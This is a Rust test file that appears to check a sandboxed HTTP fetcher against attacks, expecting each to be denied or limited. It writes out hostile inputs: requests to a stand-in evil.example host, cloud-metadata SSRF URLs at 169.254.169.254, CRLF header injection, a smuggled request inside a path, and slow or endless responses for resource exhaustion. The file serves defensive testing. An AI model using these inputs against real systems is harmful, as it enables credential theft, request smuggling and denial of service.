//! Requests to forbidden destinations, servers that never end, and forged heads.

use sedge_test_kit::Server;
use serde_json::{Value, json};

use crate::harness::Attack;

const TYPE: &str = "@test/fetcher";

fn fetch(name: &str, server: &Server, arguments: Value, ends: &str) -> Attack {
    of(name, server, ("fetch", arguments), ends)
}

fn of(name: &str, server: &Server, (method, arguments): (&str, Value), ends: &str) -> Attack {
    let grant = format!("grants: {{http: [{{url: '{}'}}]}}", server.origin());
    Attack::call(name, (TYPE, method), arguments, ends).with(&grant)
}

pub(crate) fn attacks() -> Vec<Attack> {
    let (server, other) = (Server::plain(), Server::plain());
    let mut attacks = places(&server, &other);
    attacks.extend(bodies(&server));
    attacks.extend(heads(&server));
    attacks.push(Attack::other(
        "the requests that left the host",
        async move |_| {
            let n_other = other.n_connections();
            let requests = server.requests();
            let is_forged = |it: &&String| it.contains("evil") || it.contains("smuggled");
            let n_forged = requests.iter().filter(is_forged).count();
            format!("{n_other} connections to the other server, {n_forged} forged requests")
        },
        "0 connections to the other server, 0 forged requests",
    ));
    attacks
}

fn places(server: &Server, other: &Server) -> Vec<Attack> {
    let to = |url: &str| json!({"url": server.url(&format!("/redirect/{url}")), "redirects": 3});
    let denied = "was denied";
    vec![
        fetch(
            "a request to a name that was not granted",
            server,
            json!({"url": "http://c2VjcmV0.evil.example/"}),
            denied,
        ),
        fetch(
            "a request to another port",
            server,
            json!({"url": other.url("/hello")}),
            denied,
        ),
        fetch(
            "a redirect to this machine",
            server,
            to(&other.url("/hello")),
            denied,
        ),
        fetch(
            "a redirect to the cloud's metadata",
            server,
            to("http://169.254.169.254/latest/meta-data/"),
            denied,
        ),
        Attack::call(
            "the cloud's metadata, with any host granted",
            (TYPE, "fetch"),
            json!({"url": "http://169.254.169.254/latest/meta-data/"}),
            denied,
        )
        .with("grants: {http: [{url: 'http://*:*'}]}"),
        Attack::call(
            "this machine by a name, with any host granted",
            (TYPE, "fetch"),
            json!({"url": other.origin_by("localhost") + "/hello"}),
            denied,
        )
        .with("grants: {http: [{url: 'http://*:*'}]}"),
        fetch(
            "redirects in a circle",
            server,
            json!({"url": server.url("/redirect/") + &"/redirect/".repeat(9) + "/hello", "redirects": 3}),
            "redirect",
        ),
    ]
}

fn bodies(server: &Server) -> Vec<Attack> {
    let late = "it was stopped after";
    let at = |path: &str| json!({"url": server.url(path)});
    let endless = json!({"url": server.url("/endless"), "bytes_max": 1 << 30});
    let dribble = json!({"authority": server.origin()[7..], "timeout_ms": 3_600_000});
    let crowd = json!({"authority": server.origin()[7..], "path": "/stall", "count": 1000});
    vec![
        fetch(
            "a response that never ends, all of it kept",
            server,
            endless,
            "the limit `memory-bytes`",
        ),
        fetch(
            "a response that comes byte by byte",
            server,
            at("/drip"),
            late,
        ),
        fetch(
            "a head that comes byte by byte",
            server,
            at("/slow-head"),
            late,
        ),
        fetch("a server that says nothing", server, at("/silent"), late),
        of(
            "a request body that comes byte by byte",
            server,
            ("dribble", dribble),
            late,
        ),
        of(
            "a thousand requests at once",
            server,
            ("crowd", crowd),
            "returned",
        )
        .or(late),
        fetch("a head of 100 kB", server, at("/head/100000"), "too large").or("limit"),
        fetch(
            "a server that talks nonsense",
            server,
            at("/garbage"),
            "failed",
        )
        .or("HTTP"),
        fetch(
            "a compressed response",
            server,
            at("/gzip"),
            r#""hex":"1f8b"#,
        ),
    ]
}

fn heads(server: &Server) -> Vec<Attack> {
    let authority = server.origin()[7..].to_owned();
    let raw = |name: &str, header: [&str; 2], ends: &str| {
        let arguments = json!({"scheme": "http", "authority": authority, "path": "/hello",
            "headers": [header]});
        of(name, server, ("raw", arguments), ends)
    };
    let path = |name: &str, path: &str| {
        let arguments = json!({"scheme": "http", "authority": authority, "path": path});
        of(name, server, ("raw", arguments), r#"returned "path""#)
    };
    vec![
        raw(
            "a header with a line end in its value",
            ["x", "a\r\nevil: 1"],
            "InvalidSyntax",
        ),
        raw(
            "a header with a line end in its name",
            ["x\r\nevil", "1"],
            "InvalidSyntax",
        ),
        raw(
            "a body's end of its own choice",
            ["Transfer-Encoding", "chunked"],
            "Forbidden",
        ),
        raw(
            "a host of its own choice",
            ["Host", "evil.example"],
            "Forbidden",
        ),
        path(
            "a request within the path",
            "/ HTTP/1.1\r\nhost: evil\r\n\r\nGET /smuggled",
        ),
        path("another origin within the path", "http://169.254.169.254/"),
    ]
}
